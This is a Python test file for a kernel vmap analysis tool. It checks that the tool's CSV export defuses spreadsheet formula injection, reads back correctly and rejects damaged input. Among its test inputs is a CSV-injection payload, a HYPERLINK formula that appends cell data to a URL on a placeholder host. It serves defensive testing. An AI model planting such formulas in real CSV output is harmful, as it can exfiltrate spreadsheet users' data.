# Copyright (c) drgn_vmap authors
# SPDX-License-Identifier: LGPL-2.1-or-later
"""
CSV
---

No text of a target is a formula to a spreadsheet, and programs read it back.
"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drgn_vmap._numpy import np
from drgn_vmap.analyses.describe import describe
from drgn_vmap.analyses.saved import areas_from_csv
from drgn_vmap.errors import UsageError
from drgn_vmap.model.areas import VMAP_BLOCK, VMAP_RAM, Snapshot, State
from drgn_vmap.render.records import area_csv, csv_areas
from tests.fakes.snapshots import area, snapshot_of

CALLER = 0xFFFFFFFF81000000
#: Of cells, what makes Excel and LibreOffice Calc work out the rest.
FORMULAS_START = tuple("=+-@\t\r\n")


def snapshot_with(caller: str) -> Snapshot:
    """Return a snapshot of one area, whose caller has that name."""
    return snapshot_of([area(0, 2, flags=2, caller=CALLER)], {CALLER: caller})


def cell(text: str) -> str:
    """Return the caller of the only line, as a program reads it."""
    [row] = csv.DictReader(io.StringIO(text))
    return row["caller"]


def as_documented(read: str) -> str:
    """Return a text as docs/ls.md says to get it back."""
    return read[1:] if read.startswith("'") else read


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'=", "''", "\n="])
def test_no_formulas(start: str) -> None:
    """Whatever a cell begins with; both ways to CSV are one."""
    name = f'{start}HYPERLINK("http://a/?"&A1,"x")'
    snapshot = snapshot_with(name)
    text = area_csv(describe(snapshot))
    assert text == "".join(csv_areas(snapshot, np.arange(1), describe))
    assert not cell(text).startswith(FORMULAS_START)
    if name.isprintable():
        assert as_documented(cell(text)) == name


@given(st.text("=+-@'\",;ab ", min_size=1))
def test_texts_are_read_back(name: str) -> None:
    """Two names are never the same cell."""
    found = cell(area_csv(describe(snapshot_with(name))))
    assert as_documented(found) == name
    assert not found.startswith(FORMULAS_START)


def test_others_are_left_alone() -> None:
    """The names that kernels have are what they are; so are numbers."""
    text = area_csv(describe(snapshot_with("vmap_caller+0x1/0x2 [mod]")))
    assert "'" not in text and cell(text) == "vmap_caller+0x1/0x2 [mod]"


def test_areas_are_read_back() -> None:
    """What --from takes are the areas that were printed, in every column."""
    snapshot = snapshot_of(
        [
            area(0, 5, flags=2, caller=CALLER, nr_pages=4, numa_pages=(4, 0)),
            area(5, 2, flags=1, caller=CALLER, phys=0xFED00000, vmap_node=3),
            area(30, 70, va_flags=VMAP_RAM),
            area(100, 9, va_flags=VMAP_RAM | VMAP_BLOCK, is_block=True),
            area(7, 3, State.LAZY),
            area(13, 7, State.FREE, vmap_node=-1),
        ],
        {CALLER: "=evil"},
    )
    printed = tuple(describe(snapshot))
    assert areas_from_csv("file", area_csv(printed)).areas == printed


@pytest.mark.parametrize(
    "damage",
    [
        *("\0", '"', '"x"y,z', "\r", "," * 40, "x" * 200_000),
        *("9" * 5000, "²", "٣", "-1", "1e9", "N0=" + "9" * 5000, "N²=1", "N0=N0"),
    ],
)
def test_damaged(damage: str) -> None:
    """Whatever a cell holds, reading it back ends in areas or in one line."""
    text = area_csv(describe(snapshot_with("vmap_caller+0x1/0x2 [mod]")))
    header, row = text.splitlines()
    cells, refused = next(csv.reader([row])), 0
    for at, _ in enumerate(cells):
        other = ",".join([*cells[:at], damage, *cells[at + 1 :]])
        try:
            areas_from_csv("file", f"{header}\n{row}\n{other}\n")
        except UsageError as e:
            refused += 1
            assert str(e).endswith(": give a file that it made")
    # The two addresses in any case.
    assert refused >= 2
